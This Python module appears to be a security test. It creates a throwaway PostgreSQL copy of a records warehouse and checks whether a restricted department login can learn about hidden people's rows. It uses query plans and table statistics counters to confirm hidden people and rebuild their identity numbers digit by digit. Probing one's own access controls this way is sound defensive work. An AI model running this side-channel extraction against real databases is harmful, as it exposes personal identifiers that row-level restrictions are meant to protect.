"""What a department's login on PostgreSQL learns of people whose rows are hidden from it, without reading one."""

import os
import re
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import psycopg
from attacks.sides import COUNTY, Result, Side
from psycopg import sql

SERVER = os.environ.get("LIANGXIAN_TEST_DATABASE_URL", "postgresql://postgres@127.0.0.1:5432/test")
OFFICE = "civil_affairs"
NUMBERS = 10
DIGITS = "0123456789X"
"""Of identity numbers, as text sorts them."""
LENGTH = 18
COUNTERS = (
    "SELECT relname, seq_scan, seq_tup_read, idx_scan, idx_tup_fetch FROM pg_stat_xact_all_tables "
    "WHERE schemaname = 'warehouse' ORDER BY relname"
)
Ask = Callable[[sql.Composable], tuple[object, ...]]
FROM_VIEW = sql.SQL("EXPLAIN (ANALYZE, COSTS OFF, TIMING OFF, SUMMARY OFF) SELECT 1 FROM office.findings WHERE {}")


def recognise_hidden_people(side: Side, server: str = SERVER) -> Result:
    """2: an office asks plans and counters whether people of other offices' findings are there, and for numbers."""
    with _office(side, server) as (superuser, reader, ask, queries):
        hidden = sorted(_people(superuser, f"owner <> '{OFFICE}'") - _people(superuser, f"owner = '{OFFICE}'"))
        mine = {number for (number,) in reader.execute("SELECT person_id FROM office.findings").fetchall() if number}
        empty = ask(_is("person_id", "nobody"))
        seen = sum(ask(_is("person_id", number)) != empty for number in hidden)
        queries.clear()
        found = list(_numbers(ask, mine)) if ask(_between("", "~", mine)) != ask(_between("~", "~~", mine)) else []
        exact = len(set(found) & set(hidden))
    told = f"{seen} of {len(hidden)} hidden people recognised"
    return bool(seen or exact), f"{told}, {exact} whole numbers in {len(queries)} queries"


def _is(column: str, value: str) -> sql.Composable:
    return sql.SQL("{} = {}").format(sql.Identifier(column), sql.Literal(value))


def _between(after: str, upto: str, mine: set[str]) -> sql.Composable:
    """Numbers after one and up to another, of others than one's own people."""
    own = sql.SQL(", ").join(map(sql.Literal, sorted(mine)))
    return sql.SQL('person_id COLLATE "C" > {} AND person_id COLLATE "C" <= {} AND person_id NOT IN ({})').format(
        sql.Literal(after), sql.Literal(upto), own
    )


def _numbers(ask: Ask, mine: set[str]) -> Iterator[str]:
    """One whole number after the other, digit by digit, from what a plan says of ranges."""
    nothing, last = ask(_between("~", "~~", mine)), ""
    for _ in range(NUMBERS):
        if ask(_between(last, "~", mine)) == nothing:
            return
        number = ""
        while len(number) < LENGTH:
            low, high = 0, len(DIGITS) - 1
            while low < high:
                middle = (low + high) // 2
                is_there = ask(_between(last, f"{number}{DIGITS[middle]}~", mine)) != nothing
                low, high = (low, middle) if is_there else (middle + 1, high)
            number += DIGITS[low]
        yield (last := number)


def _people(superuser: psycopg.Connection[Any], condition: str) -> set[str]:
    query = f"SELECT DISTINCT person_id FROM warehouse.fact_finding WHERE person_id IS NOT NULL AND {condition}"
    return {number for (number,) in superuser.execute(query.encode()).fetchall()}


@contextmanager
def _office(
    side: Side, server: str
) -> Iterator[tuple[psycopg.Connection[Any], psycopg.Connection[Any], Ask, list[int]]]:
    """A database of this home's warehouse, as a superuser and as an office's login; what that is told, how often."""
    name = f"attacked_{uuid.uuid4().hex[:8]}"
    server = server.replace("postgresql+psycopg", "postgresql")
    ours = server.rpartition("/")[0] + f"/{name}"
    url, login = ours.replace("postgresql", "postgresql+psycopg", 1), f"{name}_login"
    asked: list[int] = []
    with psycopg.connect(server, autocommit=True) as admin:
        admin.execute(f"CREATE DATABASE {name}".encode())
        admin.execute(f"CREATE ROLE {login} LOGIN".encode())
        try:
            admitted = ("--kind", "department", "--county", COUNTY, "--department", OFFICE)
            for words in (("publish",), ("grant", "--prefix", name), ("admit", login, *admitted, "--prefix", name)):
                done = side.call("database", *words, LIANGXIAN_DATABASE_URL=url)
                assert done.returncode == 0, done.stderr
            with psycopg.connect(ours, autocommit=True) as superuser:
                superuser.execute("ANALYZE")
                with psycopg.connect(ours, autocommit=True) as reader:
                    reader.execute(sql.SQL("SET SESSION AUTHORIZATION {}").format(sql.Identifier(login)))
                    yield superuser, reader, lambda condition: _told(reader, condition, asked), asked
        finally:
            admin.execute(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)".encode())
            roles = admin.execute("SELECT rolname FROM pg_roles WHERE starts_with(rolname, %s)", [name]).fetchall()
            for (role,) in sorted(roles, reverse=True):
                admin.execute(sql.SQL("DROP ROLE {}").format(sql.Identifier(role)))


def _told(reader: psycopg.Connection[Any], condition: sql.Composable, asked: list[int]) -> tuple[object, ...]:
    """The plan as it was run, what was asked aside, and how counters rose where they are shown."""
    asked.append(1)
    with reader.transaction():
        before = _counted(reader)
        plan = [str(row[0]) for row in reader.execute(FROM_VIEW.format(condition)).fetchall()]
        after = _counted(reader)
    rose = [tuple(b - a for a, b in zip(*pair, strict=True)) for pair in zip(before, after, strict=True)]
    return "\n".join(re.sub(r"'[^']*'|\{[^}]*\}", "?", line) for line in plan), *rose


def _counted(reader: psycopg.Connection[Any]) -> list[tuple[int, ...]]:
    try:
        with reader.transaction():
            return [tuple(row[1:]) for row in reader.execute(COUNTERS.encode()).fetchall()]
    except psycopg.errors.InsufficientPrivilege:
        return []
